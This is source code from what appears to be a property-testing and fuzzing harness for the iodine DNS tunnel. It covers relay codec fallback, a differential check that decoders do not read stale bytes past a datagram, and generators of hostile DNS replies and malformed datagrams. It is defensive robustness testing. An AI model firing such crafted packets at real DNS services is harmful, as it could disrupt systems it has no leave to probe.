	R.attach();
	s.start_server();
	wm.v = &v; wm.domain = c.domain; wm.srv_idx = s.srv->idx; wm.judge_c14 = false; wm.attach(sim::W);
	// one case in four: 10..15 other clients have taken slots before (they talk to the server directly), so that the client under
	// test gets a two-digit user number -- the one place where a hexadecimal digit A..F, which a relay may change in case, appears
	// in its queries
	int occupied = 0;
	std::vector<std::unique_ptr<scn::ScriptClient>> others;
	// one case in five: slot 0 has had an earlier session (directly at the server, on a perfect path): it switched its upstream
	// codec, downstream codec and fragment size, sent a packet upstream, got one downstream, and fell silent for more than 60 s.
	// The client under test is then given the same slot; nothing of the earlier session may survive (it may have to stay on
	// Base32 where the earlier one used Base128).
	bool prev_session = false;
	if (t.chance(1, 5)) {
		std::unique_ptr<scn::ScriptClient> oc(new scn::ScriptClient());
		oc->addr = sim::Addr::v4(198, 51, 100, 9, 6099); oc->domain = c.domain; oc->password = Bytes(c.password.begin(), c.password.end()); oc->next_id = 15000;
		oc->qtype_k = 1;
		oc->attach();
		static const int UPB[] = {7, 6, 26, 5};
		if (oc->handshake(t.chance(1, 2), t.range(150, 1100), "VSUR"[t.below(4)], UPB[t.below(4)])) {
			prev_session = true;
			int npk = 1 + (int)t.below(4);
			for (int k = 0; k < npk; k++) oc->send_packet(scn::tun_packet(s.server_tun_ip(), Bytes{10, 0, 0, 2}, t.bytes_of(20 + t.below(60)), (uint16_t)(900 + k)), 100);
			sim::W.offer_tun(s.srv, scn::tun_packet(Bytes{10, 0, 0, 2}, s.server_tun_ip(), t.bytes_of(300), 950));
			oc->send_ping(); sim::W.run_for(30000);
			sim::W.run_for(61000000 + t.below(10000000));
			tm.ev.clear();   // what the earlier (scripted) session wrote and read is not part of the judged history
		}
		others.push_back(std::move(oc));
	} else
	if (t.chance(1, 4)) {
		int n = t.range(10, 15);
		for (int k = 0; k < n; k++) {
			std::unique_ptr<scn::ScriptClient> oc(new scn::ScriptClient());
			oc->addr = sim::Addr::v4(198, 51, 100, (uint8_t)(10 + k), (uint16_t)(6100 + k)); oc->domain = c.domain; oc->password = Bytes(c.password.begin(), c.password.end()); oc->next_id = (uint16_t)(20000 + 500 * k);
			oc->attach();
			if (oc->do_version()) occupied++;
			others.push_back(std::move(oc));
		}
	}
	s.start_client(0);
	// negotiated settings, read off the wire
	std::string neg_up = "Base32", neg_down = "?"; int neg_frag = 0, neg_type = 0; bool neg_lazy = false;
	sim::W.on_send = [&, prev = sim::W.on_send](const sim::Datagram &dg) {
		if (prev) prev(dg);
		if (dg.from_inst != s.srv->idx) return;
		refproto::Answer a;
		if (!refproto::decode_answer(dg.data, a) || !a.ok || a.qname.empty()) return;
		char k = (char)tolower((unsigned char)a.qname[0]);
		std::string pl(a.payload.begin(), a.payload.end());
		if (k == 's' && pl.compare(0, 4, "Base") == 0) neg_up = pl;
		if (k == 'o' && (pl.compare(0, 4, "Base") == 0 || pl == "Raw")) neg_down = pl;
		if (k == 'o' && pl == "Lazy") neg_lazy = true;
		if (k == 'n' && a.payload.size() == 2) neg_frag = (a.payload[0] << 8) | a.payload[1];
		neg_type = a.qtype;
	};
	bool up = s.wait_handshake(0, 400);
	bool exited = s.cli[0]->state == sim::ST_EXITED;
	// (B) would a Base32 / 512-byte path exist?
	bool b32_ok = P.q.hi != 2 || true;                    // Base32 names contain no bytes >= 0x80, '+' or '_' ; any letter case decodes
	bool viable = b32_ok && !P.types.empty();
	if (forced == 1) viable = viable && std::find(P.types.begin(), P.types.end(), (int)refproto::qtype_of(c.qtype)) != P.types.end();
	// answer-side: Base32 answers survive any case change; a forced downstream codec must itself survive the answer side
	if (forced == 2) {
		bool ok = true;
		if (c.downenc == 2 && (P.a.kase != 0 || P.a.plus)) ok = false;         // Base64: case-sensitive, uses '+'
		if (c.downenc == 3 && (P.a.kase != 0 || P.a.under)) ok = false;        // Base64u: case-sensitive, uses '_'
		if (c.downenc == 4 && (P.a.kase != 0 || P.a.hi != 0)) ok = false;      // Base128: case-sensitive, bytes >= 0x80
		bool name_types_only = true; for (int x : P.types) if (x == 10 || x == 65399) name_types_only = false;
		if (!ok && name_types_only) viable = false;
		if (!ok) viable = false;   // a forced codec that the path breaks is the user's choice: failure is acceptable
	}
	if (forced == 3) {
		// a forced fragment size must fit the answers the path lets through
		size_t lim = P.limit ? (size_t)P.limit : 65535; if (!P.edns0) lim = std::min<size_t>(lim, 512);
		if ((size_t)c.frag + 100 > lim) viable = false;
		bool only_names = true; for (int x : P.types) if (x == 10 || x == 65399 || x == 16) only_names = false;
		if (only_names && c.frag > 100) viable = false;
	}
	std::string render = c.describe() + " | relay: " + P.str() + fmt(" | handshake=%s negotiated: type=%d up=%s down=%s frag=%d lazy=%d | relay saw %llu queries, refused %llu, dropped %llu oversize, changed %llu bytes",
			up ? "ok" : (exited ? "client exited" : "timeout"), neg_type, neg_up.c_str(), neg_down.c_str(), neg_frag, (int)neg_lazy, (unsigned long long)R.n_q, (unsigned long long)R.n_refused, (unsigned long long)R.n_dropped_size, (unsigned long long)R.n_changed);
	r.render = render;
	if (sim::W.livelock) { r.fail("C11:livelock", "simulation did not make progress\n" + render); return r; }
	if (!up) {
		if (viable) r.fail("C11:no-fallback", "the path passes Base32 names and 512-byte answers for an allowed record type, but the handshake did not succeed\n" + render + "\n" + s.cli[0]->log.substr(s.cli[0]->log.size() > 900 ? s.cli[0]->log.size() - 900 : 0));
		r.cls("handshake-failed"); r.cls(viable ? "viable-path" : "non-viable-path");
		return r;
	}
	// (A) soundness: 6 packets each way containing every byte value
	Bytes sip = s.server_tun_ip(), cip = sip;
	for (auto &cmd : s.cli[0]->system_calls) { unsigned a, b, cc, d; size_t p = cmd.find("ifconfig "); if (p != std::string::npos && sscanf(cmd.c_str() + p, "ifconfig %*s %u.%u.%u.%u", &a, &b, &cc, &d) == 4) { cip = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)cc, (uint8_t)d}; break; } }
	sim::W.run_for(2000000);
	std::vector<Bytes> up_pk, dn_pk;
	int dncap = neg_frag > 0 ? neg_frag : 100;
	bool together = t.chance(1, 2);   // half of the cases offer the two directions at the same instant (full-length upstream chunks
	                                  // answered by full downstream fragments: the largest answers the path will ever see)
	for (int i = 0; i < 6; i++) {
		for (int dir = 0; dir < 2; dir++) {
			// an upstream packet must fit 16 fragments of the (worst case Base32) capacity of one query name
			int L = c.maxlen ? c.maxlen : 255; int space = L - (int)c.domain.size() - 8; space -= space / 57; int upcap = std::max(1, space * 5 / 8 - 1);
			size_t upmax = (size_t)std::max(20, 12 * upcap - 60);
			size_t n = dir == 0 ? std::min<size_t>(upmax, i < 3 ? 40 + 50 * i : (together ? 900 : 300)) : std::min<size_t>(i < 3 || !together ? 40 + 60 * i : 900, (size_t)std::max(20, 10 * dncap - 60));
			Bytes body(n);
			uint32_t x = t.u32() | 1;
			for (size_t k = 0; k < n; k++) { switch (i % 3) { case 0: body[k] = (uint8_t)(k * 37 + i * 11); break; case 1: body[k] = (uint8_t)(0xF8 | (k & 7)); break; default: x ^= x << 13; x ^= x >> 17; x ^= x << 5; body[k] = (uint8_t)x; break; } }
			if (together && i >= 3) for (size_t k = 0; k < n; k++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; body[k] = (uint8_t)x; }   // incompressible
			Bytes pkt = scn::tun_packet(dir == 0 ? sip : cip, dir == 0 ? cip : sip, body, (uint16_t)(3000 + i * 2 + dir));
			if (dir == 0) { up_pk.push_back(pkt); sim::W.offer_tun(s.cli[0], pkt); } else { dn_pk.push_back(pkt); sim::W.offer_tun(s.srv, pkt); }
			if (!together) sim::W.run_for(2500000);
		}
		if (together) sim::W.run_for(6000000);
	}
	sim::W.run_for(15000000);
	std::string why;
	if (!tm.integrity(why)) r.fail("C11:corrupted", why + "\n" + render);
	for (int dir = 0; dir < 2 && r.ok; dir++) {
		auto wr = tm.writes_of(dir == 0 ? s.srv->idx : s.cli[0]->idx);
		const std::vector<Bytes> &pk = dir == 0 ? up_pk : dn_pk;
		size_t pos = 0;
		for (size_t i = 0; i < pk.size() && r.ok; i++) {
			int count = 0; size_t first = 0;
			for (size_t k = 0; k < wr.size(); k++) if (wr[k].data == pk[i]) { if (!count) first = k; count++; }
			bool forced_broken = forced == 2 && ((c.downenc == 2 && (P.a.kase != 0 || P.a.plus)) || (c.downenc == 3 && (P.a.kase != 0 || P.a.under)) || (c.downenc == 4 && (P.a.kase != 0 || P.a.hi != 0)));
			bool rawtxt = neg_type == 16 && neg_down == "Raw" && P.a.plus;
			if (count == 0) r.fail(dir == 1 && forced_broken ? "C11:forced-downstream-codec-not-verified" : (dir == 1 && rawtxt ? "C11:raw-codec-test-blind-to-punctuation" : (dir == 0 ? "C11:upstream-lost" : "C11:downstream-lost")), fmt("after a successful handshake, %s packet #%zu (%zu bytes) was not delivered through the same relay", dir == 0 ? "upstream" : "downstream", i, pk[i].size()) + "\n" + render);
			else if (first < pos) r.fail("C11:reordered", "packets delivered out of order\n" + render);
			pos = first;
		}
	}
	if (s.cli[0]->state == sim::ST_EXITED) r.fail("C11:client-exited", "the client exited after the handshake\n" + render);
	bool identity = P.q.kase == 0 && P.q.hi == 0 && !P.q.plus && !P.q.under && P.a.kase == 0 && P.a.hi == 0 && !P.a.plus && !P.a.under && P.types.size() == 7 && P.limit == 0 && P.edns0;
	r.nontrivial = !identity && (neg_up != "Base128" || neg_type != 10 || neg_frag < 1000);
	r.cls("tunnel-up"); if (together) r.cls("both-directions-at-once"); r.cls("up:" + neg_up); r.cls("down:" + neg_down); r.cls(fmt("type:%d", neg_type));
	r.cls(neg_frag >= 1000 ? "frag>=1000" : (neg_frag >= 400 ? "frag400-999" : (neg_frag >= 150 ? "frag150-399" : "frag<150")));
	if (occupied >= 10) r.cls("user-number>=10");
	if (prev_session) r.cls("slot-had-an-earlier-session");
	if (forced) r.cls(forced == 1 ? "forced-T" : (forced == 2 ? "forced-O" : "forced-m"));
	if (excluded_rawtxt) r.cls("excluded-known:K1-raw-over-TXT-with-punctuation-mangling");
	if (excluded_forced) r.cls("excluded-known:K2-forced-codec-that-the-path-breaks");
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C11"; d.run = run_case; d.tape_scale = 4.0; d.case_timeout_s = 60;
	return harness_main(argc, argv, d);
}
