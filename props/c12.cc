// C12 -- a datagram is interpreted from its own bytes only (no stale-buffer over-read).
// Differential over the contents of the receive buffer beyond the datagram: the identical generated case is
// executed twice from reset, once with an all-zero residue and once with a generated residue (0xff, a byte, a random
// pattern, or a crafted continuation: labels ending in the tunnel domain + fixed fields, TXT strings, encoded
// data), and everything observable must be equal:
//   layer 1  the shared decoder dns_decode() in query mode (server side) and answer mode (client side) on a 64 KB
//            buffer holding D + residue: return value, decoded name, type, id, rcode and output bytes;
//   layer 2  the real iodined in the C05 scenario (sessions + hostile datagram history + health probe) and the real
//            iodine client in the C06 scenario (handshake / tunnel against a scripted server with a hostile reply
//            policy): every datagram the program sends (bytes), every tun write, every system() string, exit status.
// D comes from the hostile generators of C05/C06, which construct the shapes the property names: names whose
// labels or compression pointers reach or pass the end of the datagram, truncated fixed fields, RDLENGTH larger
// than the bytes present, TXT strings overrunning, short raw frames.
#include "c05_case.h"
#include "c06_case.h"
#include "glue/unit_api.h"
using namespace hz;
using scn::fmt;

static Bytes crafted_residue(Tape &t, const std::string &domain, bool for_client)
{
	Bytes r;
	auto label = [&](size_t n, int cls) { r.push_back((uint8_t)n); for (size_t i = 0; i < n; i++) r.push_back(mal::label_byte(t, cls)); };
	int reps = 1 + (int)t.below(4);
	for (int k = 0; k < reps; k++) {
		switch (t.pick({3, 2, 2, 1})) {
		case 0: {   // continuation of a name: labels, the tunnel domain, then type / class
			size_t nl = t.below(3);
			for (size_t i = 0; i < nl; i++) label(1 + t.below(30), 0);
			for (auto &l : refdns::split_labels(domain)) { r.push_back((uint8_t)l.size()); r.insert(r.end(), l.begin(), l.end()); }
			r.push_back(0); static const uint16_t TY[] = {10, 16, 5, 15, 33, 1, 65399}; uint16_t ty = TY[t.below(7)]; r.push_back((uint8_t)(ty >> 8)); r.push_back((uint8_t)ty); r.push_back(0); r.push_back(1);
			break;
		}
		case 1: {   // record tail: ttl, rdlength, data that looks like a downstream fragment / encoded text
			r.push_back(0); r.push_back(0); r.push_back(0); r.push_back(0); size_t n = 4 + t.below(120); r.push_back((uint8_t)(n >> 8)); r.push_back((uint8_t)n);
			Bytes z = refproto::zcompress(scn::tun_packet(Bytes{10, 0, 0, 2}, Bytes{10, 0, 0, 1}, t.bytes_of(20), 77));
			r.push_back(0x80); r.push_back(0x21); r.insert(r.end(), z.begin(), z.end());
			break;
		}
		case 2: { size_t n = 1 + t.below(60); r.push_back((uint8_t)n); r.push_back((uint8_t)"tsuvrhijk"[t.below(9)]); for (size_t i = 1; i < n; i++) r.push_back(mal::label_byte(t, 0)); break; }   // TXT string / prefixed label
		default: { Bytes b = t.bytes_of(1 + t.below(80)); r.insert(r.end(), b.begin(), b.end()); break; }
		}
	}
	(void)for_client;
	return r;
}

static void gen_residue(Tape &t, dif::CaseOpt &o, const std::string &domain, bool for_client, std::string &desc)
{
	o.force_residue = true;
	switch (t.pick({2, 1, 2, 5})) {
	case 0: o.residue_mode = 1; o.residue_byte = 0xff; desc = "ff.."; break;
	case 1: o.residue_mode = 1; o.residue_byte = (uint8_t)(1 + t.below(255)); desc = fmt("byte %02x", o.residue_byte); break;
	case 2: o.residue_mode = 2; o.residue_data = t.bytes_of(1 + t.below(200)); desc = "pattern " + hexs(o.residue_data, 12); break;
	default: o.residue_mode = 2; o.residue_data = crafted_residue(t, domain, for_client); desc = "crafted continuation " + hexs(o.residue_data, 24); break;
	}
}

static std::string first_difference(const dif::Transcript &a, const dif::Transcript &b)
{
	size_t n = std::min(a.ev.size(), b.ev.size());
	for (size_t i = 0; i < n; i++) if (a.ev[i] != b.ev[i]) return fmt("event #%zu differs:\n   zero residue : %.300s\n   other residue: %.300s", i, a.ev[i].c_str(), b.ev[i].c_str());
	if (a.ev.size() != b.ev.size()) return fmt("%zu events with the zero residue, %zu with the other residue; first extra: %.300s", a.ev.size(), b.ev.size(), (a.ev.size() > n ? a.ev[n] : b.ev[n]).c_str());
	return "";
}

static CaseResult program_case(Tape &t, bool client)
{
	CaseResult r;
	dif::CaseOpt o1, o2; dif::Transcript t1, t2;
	o1.force_residue = true; o1.residue_mode = 1; o1.residue_byte = 0; o1.tr = &t1;
	std::string desc;
	gen_residue(t, o2, "t.example.com", client, desc); o2.tr = &t2; o2.variant = 1;
	// server scenario, one case in three: besides the residue, the HISTORY is perturbed (see c05_case.h)
	if (!client && t.chance(1, 3)) { o1.perturb = o2.perturb = true; o1.perturb_addr = o2.perturb_addr = sim::Addr::v4(203, 0, 113, 200, 7777); desc += " + perturbed history"; }
	// client scenario, one case in four: handshake steps answered with a short reply right behind a complete reply that has to be
	// ignored (wrong id) and whose TEXT differs between the two runs (see c06_case.h)
	bool hs = client && t.chance(1, 4);
	if (hs) { o1.perturb = o2.perturb = true; o1.perturb_addr = o2.perturb_addr = sim::Addr::v4(203, 0, 113, 200, 53); }
	if (hs) desc += " + short replies behind ignored replies of differing content";
	Tape a = t, b = t;
	CaseResult ra = client ? (hs ? c06::handshake_short_reply_case(a, o1) : c06::run_case(a, o1)) : c05::run_case(a, o1);
	CaseResult rb = client ? (hs ? c06::handshake_short_reply_case(b, o2) : c06::run_case(b, o2)) : c05::run_case(b, o2);
	t.used.insert(t.used.end(), a.used.begin() + std::min(a.used.size(), t.used.size()), a.used.end());
	t.widths.insert(t.widths.end(), a.widths.begin() + std::min(a.widths.size(), t.widths.size()), a.widths.end());
	r.render = std::string(client ? "client: " : "server: ") + "residue B = " + desc + " | " + ra.render.substr(0, 1100);
	std::string d = first_difference(t1, t2);
	if (getenv("VERIF_TRACE")) for (size_t i = 0; i < std::max(t1.ev.size(), t2.ev.size()); i++) fprintf(stderr, "#%zu %s\n   A %.6f %.150s\n   B %.6f %.150s\n", i, (i < t1.ev.size() && i < t2.ev.size() && t1.ev[i] == t2.ev[i]) ? "same" : "DIFF", i < t1.at.size() ? t1.at[i] / 1e6 : -1.0, i < t1.ev.size() ? t1.ev[i].c_str() : "-", i < t2.at.size() ? t2.at[i] / 1e6 : -1.0, i < t2.ev.size() ? t2.ev[i].c_str() : "-");
	if (!d.empty() && hs) r.fail("C12:client-depends-on-ignored-reply", "the client behaved differently for identical matching replies when only the content of earlier replies it has to ignore (wrong DNS id, same length) differed: " + d + "\n" + r.render);
	else if (!d.empty()) r.fail(client ? "C12:client-depends-on-residue" : "C12:server-depends-on-residue", std::string("the ") + (client ? "client" : "server") + " behaved differently for identical datagrams when only the bytes beyond the datagram in its receive buffer" + std::string(o1.perturb ? " and the text of earlier, harmless echo requests from an uninvolved address" : "") + " differed: " + d + "\n" + r.render);
	bool shape = false; for (auto &c : ra.classes) if (c == "residue-sensitive-shape") shape = true;
	r.nontrivial = shape;
	r.cls(client ? "layer2:client" : "layer2:server");
	if (o1.perturb) r.cls("layer2:history-perturbed");
	if (hs) r.cls("layer2:client-short-replies-behind-ignored-ones");
	if (shape) r.cls("residue-sensitive-shape");
	return r;
}

// Datagrams whose LAST byte is the place where a decoder is tempted to look one byte further: the first byte of a
// compression pointer, a label length byte, a label cut short -- with every length field before it consistent, so that
// decoding really gets there.  Query mode: the question name is a pointer to label data placed after QTYPE/QCLASS
// (the fixed fields must be present for the message to be accepted at all).  Answer mode: the name is the record data
// of the last record (CNAME / MX / SRV), RDLENGTH exact.
static Bytes boundary_datagram(Tape &t, bool answer, const std::string &domain, mal::Stats &ms)
{
	Bytes m;
	auto labels = [&](int n, bool prefixed) {
		for (int k = 0; k < n; k++) {
			size_t l = 1 + t.below(t.chance(1, 4) ? 63 : 12);
			m.push_back((uint8_t)l);
			for (size_t i = 0; i < l; i++) m.push_back(prefixed && k == 0 && i == 0 ? (uint8_t)"hijkHtsuvrp0"[t.below(12)] : mal::label_byte(t, (int)t.pick({8, 2, 1})));
		}
	};
	auto tail = [&]() {
		labels((int)t.below(4), true);
		switch (t.pick({4, 2, 2, 1})) {
		case 0: m.push_back((uint8_t)(0xC0 | t.below(64))); ms.hit("boundary:pointer-first-byte-is-last-byte"); break;
		case 1: m.push_back((uint8_t)(1 + t.below(63))); ms.hit("boundary:label-length-is-last-byte"); break;
		case 2: { size_t l = 2 + t.below(62); m.push_back((uint8_t)l); size_t have = 1 + t.below((uint32_t)l - 1); for (size_t i = 0; i < have; i++) m.push_back(mal::label_byte(t, 0)); ms.hit("boundary:label-cut-short"); break; }
		default: for (auto &l : refdns::split_labels(domain)) { m.push_back((uint8_t)l.size()); m.insert(m.end(), l.begin(), l.end()); } ms.hit("boundary:name-without-terminator"); break;
		}
	};
	mal::put16(m, (uint16_t)t.below(65536));
	static const uint16_t TY[] = {10, 65399, 16, 33, 15, 5, 1};
	if (!answer) {
		mal::put16(m, 0x0100); mal::put16(m, 1); mal::put16(m, 0); mal::put16(m, 0); mal::put16(m, 0);
		// optional literal labels first, then the pointer
		if (t.chance(1, 3)) labels(1 + (int)t.below(2), true);
		size_t pp = m.size(); mal::put16(m, 0);
		mal::put16(m, TY[t.below(7)]); mal::put16(m, 1);
		size_t target = m.size(); m[pp] = (uint8_t)(0xC0 | (target >> 8)); m[pp + 1] = (uint8_t)target;
		tail();
	} else {
		mal::put16(m, 0x8400); mal::put16(m, 1); mal::put16(m, 1); mal::put16(m, 0); mal::put16(m, 0);
		static const char *NM[] = {"paaaaaaa.t.example.com", "0eabapdn.t.example.com", "yrb123.t.example.com"};
		for (auto &l : refdns::split_labels(NM[t.below(3)])) { m.push_back((uint8_t)l.size()); m.insert(m.end(), l.begin(), l.end()); } m.push_back(0);
		static const uint16_t RT[] = {5, 15, 33, 16};
		uint16_t rt = RT[t.pick({4, 2, 2, 1})];
		mal::put16(m, rt == 5 && t.chance(1, 3) ? 1 : rt); mal::put16(m, 1);
		mal::put16(m, 0xC00C); mal::put16(m, rt); mal::put16(m, 1); mal::put32(m, 0);
		size_t rl = m.size(); mal::put16(m, 0); size_t rs = m.size();
		if (rt == 15) mal::put16(m, 10);
		if (rt == 33) { mal::put16(m, 10); mal::put16(m, 10); mal::put16(m, 5060); }
		if (rt == 16) { size_t n = 1 + t.below(255); m.push_back((uint8_t)n); size_t have = t.below((uint32_t)n); for (size_t i = 0; i < have; i++) m.push_back(i == 0 ? (uint8_t)"tsuvr"[t.below(5)] : mal::label_byte(t, 0)); ms.hit("boundary:txt-string-cut-short"); }
		else tail();
		size_t n = m.size() - rs; m[rl] = (uint8_t)(n >> 8); m[rl + 1] = (uint8_t)n;
	}
	return m;
}

static CaseResult decoder_case(Tape &t)
{
	CaseResult r;
	bool answer = t.chance(1, 2);
	mal::Stats ms;
	Bytes D;
	std::string domain = "t.example.com";
	if (answer) { refproto::Query q; q.id = (uint16_t)t.below(65536); static const char *NM[] = {"paaaaaaa.t.example.com", "0eabapdn.t.example.com", "yrb123.t.example.com"}; q.name = NM[t.below(3)]; q.qtype = refproto::qtype_of(1 + (int)t.below(7)); D = mal::hostile_answer(t, q, ms); }
	else { static const char CMD[] = "vlizsoyrnp0a"; D = mal::hostile_query(t, domain, t.chance(2, 3) ? CMD[t.below(sizeof CMD - 1)] : 0, ms); }
	bool boundary = t.chance(1, 4);
	if (boundary) { ms = mal::Stats(); D = boundary_datagram(t, answer, domain, ms); }
	// additional cuts at every interesting place: the property names truncation inside an item
	if (!boundary && t.chance(1, 2) && D.size() > 13) { D.resize(12 + t.below((uint32_t)(D.size() - 12))); ms.hit("cut"); }
	if (D.size() > 60000) D.resize(60000);
	dif::CaseOpt o2; std::string desc; gen_residue(t, o2, domain, answer, desc);
	size_t buflen = t.chance(1, 2) ? 4096 : 65536;
	struct Out { int rv; std::string name; unsigned short type, id, rcode; Bytes out; } res[2];
	for (int k = 0; k < 2; k++) {
		std::vector<char> pkt(65536);
		memcpy(pkt.data(), D.data(), D.size());
		if (k == 0) memset(pkt.data() + D.size(), 0, pkt.size() - D.size());
		else if (o2.residue_mode == 1) memset(pkt.data() + D.size(), o2.residue_byte, pkt.size() - D.size());
		else for (size_t i = D.size(), j = 0; i < pkt.size(); i++, j++) pkt[i] = (char)o2.residue_data[j % o2.residue_data.size()];
		std::vector<char> buf(buflen + 16, (char)0x5a);
		char name[256]; memset(name, 0, sizeof name);
		unsigned short ty = 0, id = 0, rc = 0;
		int rv = v_dns_decode(answer ? buf.data() : nullptr, answer ? buflen : 0, answer ? 1 : 0, pkt.data(), D.size(), name, &ty, &id, &rc);
		res[k].rv = rv; res[k].name.assign(name, strnlen(name, 255)); res[k].type = ty; res[k].id = id; res[k].rcode = rc;
		if (answer && rv > 0) res[k].out.assign((uint8_t *)buf.data(), (uint8_t *)buf.data() + std::min<size_t>((size_t)rv, buflen));
		// in answer mode only the first name character is kept by the decoder
	}
	r.render = fmt("decoder: %s mode, datagram %zu bytes %s, caller buffer %zu, residue B = %s -> rv %d / %d", answer ? "answer" : "query", D.size(), hexs(D, 40).c_str(), buflen, desc.c_str(), res[0].rv, res[1].rv);
	bool accepted = res[0].rv > 0 || res[1].rv > 0;
	std::string why;
	if (res[0].rv != res[1].rv) why = fmt("return value %d with a zero residue, %d with the other residue", res[0].rv, res[1].rv);
	else if (accepted && res[0].name != res[1].name) why = "decoded name '" + json_escape(res[0].name.substr(0, 80)) + "' vs '" + json_escape(res[1].name.substr(0, 80)) + "'";
	else if (accepted && (res[0].type != res[1].type || res[0].id != res[1].id)) why = "decoded type / id differ";
	else if (accepted && res[0].out != res[1].out) why = "decoded payload differs: " + hexs(res[0].out, 40) + " vs " + hexs(res[1].out, 40);
	if (!why.empty()) r.fail(answer ? "C12:decode-answer-depends-on-residue" : "C12:decode-query-depends-on-residue", "dns_decode() interpreted the same datagram differently depending on the bytes after it: " + why + "\n" + r.render);
	bool shape = false; for (auto &kv : ms.kinds) { r.cls(kv.first); if (kv.first == "cut" || kv.first.find("truncated") != std::string::npos || kv.first.find("past-end") != std::string::npos || kv.first.find("rdlength-lies") != std::string::npos || kv.first.find("overruns") != std::string::npos || kv.first.find("unterminated") != std::string::npos || kv.first.find("pointer") != std::string::npos || kv.first.find("boundary:") == 0) shape = true; }
	r.nontrivial = shape;
	r.cls(answer ? "layer1:answer" : "layer1:query");
	return r;
}

static CaseResult run_case(Tape &t)
{
	switch (t.pick({6, 2, 2})) { case 0: return decoder_case(t); case 1: return program_case(t, false); default: return program_case(t, true); }
}

#ifdef VERIF_FUZZ_TARGET
#include "fuzz_entry.h"
VERIF_FUZZ_ENTRY("C12", run_case)
#else
int main(int argc, char **argv)
{
	if (!ref::md5_selftest()) return 2;
	PropDef d; d.id = "C12"; d.run = run_case; d.tape_scale = 10.0; d.case_timeout_s = 40;
	return harness_main(argc, argv, d);
}
#endif
