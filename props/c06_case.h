// c06_case.h -- the C06 case function (hostile reply policies against the real iodine client), shared with C12.
#pragma once
#include "client_common.h"
#include "maldns.h"
#include "diff_common.h"
namespace c06 {
using namespace hz;
using namespace cli;

static Bytes hostile_payload(Tape &t, int step, ScriptServer &S, mal::Stats &st)
{
	// a payload of the right general form for the step but with hostile content
	switch (step) {
	case S_V: {
		static const char *W[] = {"VACK", "VNAK", "VFUL", "VACX", "vack"};
		Bytes p; const char *w = W[t.below(5)]; p.insert(p.end(), w, w + 4);
		size_t n = t.pick({6, 1, 1, 1}) == 0 ? 5 : t.below(12);
		for (size_t i = 0; i < n; i++) p.push_back((uint8_t)t.below(256));
		st.hit("hs:version-reply"); return p;
	}
	case S_L: {
		std::string s;
		switch (t.pick({3, 2, 2, 2})) {
		case 0: s = fmt("%u.%u.%u.%u-%u.%u.%u.%u-%d-%d", t.below(256), t.below(256), t.below(256), t.below(256), t.below(256), t.below(256), t.below(256), t.below(256), (int)t.below(3000) - 500, (int)t.below(70) - 20); break;
		case 1: { size_t n = 64 + t.below(200); for (size_t i = 0; i < n; i++) s += (char)('0' + t.below(10)); s += "-1.2.3.4-1200-27"; break; }
		case 2: s = "10.0.0.1-10.0.0.2-99999999999999999999-99999999999999999999"; break;
		default: { size_t n = t.below(4200); for (size_t i = 0; i < n; i++) s += (char)(t.chance(1, 9) ? '-' : 1 + t.below(255)); break; }
		}
		st.hit("hs:login-reply"); return Bytes(s.begin(), s.end());
	}
	case S_I: { size_t n = t.pick({2, 2, 2, 1}) == 0 ? 5 : (t.chance(1, 2) ? 17 : t.below(40)); Bytes p(n); for (auto &b : p) b = (uint8_t)t.below(256); if (!p.empty() && t.chance(3, 4)) p[0] = 'I'; st.hit("hs:ip-reply"); return p; }
	case S_S: case S_O: { size_t n; switch (t.pick({3, 2, 2})) { case 0: n = t.below(20); break; case 1: n = 4090 + t.below(10); break; default: n = t.below(5000); break; } Bytes p(n); for (auto &b : p) b = (uint8_t)(0x20 + t.below(0x5f)); st.hit("hs:codec-name-reply"); return p; }
	case S_Y: case S_Z: { size_t n = t.chance(1, 2) ? 48 : t.below(300); Bytes p = t.bytes_of(n); if (t.chance(1, 2) && n == 48) { p.assign(DCC1, DCC1 + 48); p[t.below(48)] ^= (uint8_t)(1 << t.below(8)); } st.hit("hs:codec-test-reply"); return p; }
	case S_R: { size_t n; switch (t.pick({3, 2, 2, 1})) { case 0: n = t.below(50); break; case 1: n = t.below(2100); break; case 2: n = 4090 + t.below(10); break; default: n = 6000; break; } Bytes p(n); for (size_t i = 0; i < n; i++) p[i] = (uint8_t)(i == 2 ? 107 : i * 107); if (n >= 2 && t.chance(2, 3)) { p[0] = (uint8_t)(n >> 8); p[1] = (uint8_t)n; } if (n > 10 && t.chance(1, 3)) p[5 + t.below((uint32_t)(n - 5))] ^= 1; st.hit("hs:fragsize-probe-reply"); return p; }
	case S_N: { Bytes p(t.below(6)); for (auto &b : p) b = (uint8_t)t.below(256); st.hit("hs:fragsize-set-reply"); return p; }
	default: {   // ping / data: downstream header + data
		Bytes p = S.down_header(0, false);
		p[0] = (uint8_t)t.below(256); p[1] = (uint8_t)t.below(256);
		size_t n; switch (t.pick({3, 3, 2, 1, 1})) { case 0: n = 0; break; case 1: n = t.below(300); break; case 2: n = 4090 + t.below(8); break; case 3: n = t.below(5000); break; default: n = 20000 + t.below(40000); break; }
		Bytes d = t.chance(1, 2) ? refproto::zcompress(scn::tun_packet(Bytes{10, 0, 0, 2}, Bytes{10, 0, 0, 1}, t.bytes_of(std::min<size_t>(n, 3000)), 5)) : t.bytes_of(n);
		p.insert(p.end(), d.begin(), d.end());
		st.hit("tunnel:hostile-data-answer"); return p;
	}
	}
}

static CaseResult run_case(Tape &t, const dif::CaseOpt &opt = dif::CaseOpt())
{
	CaseResult r;
	scn::Config c;
	c.qtype = (int)t.pick({2, 4, 1, 3, 2, 2, 2, 2});
	c.downenc = (int)t.pick({5, 1, 1, 1, 1, 1});
	c.frag = t.chance(1, 2) ? -1 : t.range(2, 1300);
	if (t.chance(1, 4)) c.maxlen = t.range(100, 255);
	c.lazy = t.chance(1, 3) ? 0 : 1;
	c.raw_mode = t.chance(1, 5);
	c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	mon::TunMonitor tm; tm.attach(sim::W);
	ScriptServer srv; srv.domain = c.domain; srv.password = Bytes(c.password.begin(), c.password.end());
	srv.seed = t.u32(); srv.userid = (int)t.below(16);
	srv.attach();
	switch (t.pick({3, 2, 2})) { case 0: sim::W.residue_mode = 1; sim::W.residue_byte = 0; break; case 1: sim::W.residue_mode = 1; sim::W.residue_byte = 0xff; break; default: sim::W.residue_mode = 2; sim::W.residue_data = t.bytes_of(1 + t.below(200)); break; }
	dif::apply_residue(opt); dif::record(opt);
	mal::Stats ms;
